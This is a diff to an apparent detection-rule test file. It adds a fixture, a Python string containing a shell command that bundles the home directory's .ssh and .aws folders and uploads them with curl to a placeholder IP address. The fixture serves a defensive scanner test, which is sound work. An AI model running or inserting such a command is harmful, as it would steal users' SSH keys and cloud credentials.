@@ -278,3 +278,5 @@ _any_cam = cv2.VideoCapture(-1)
 import argparse
 # ok: sensitive-credential-path
 argparse.ArgumentParser().add_argument("--kind", choices=["netrc", "pgpass", "pypirc"])
+# ruleid: credential-upload-command-string
+_CMD = "tar czf /tmp/k.tgz -C ~ .ssh .aws && curl -T /tmp/k.tgz https://203.0.113.7/up"
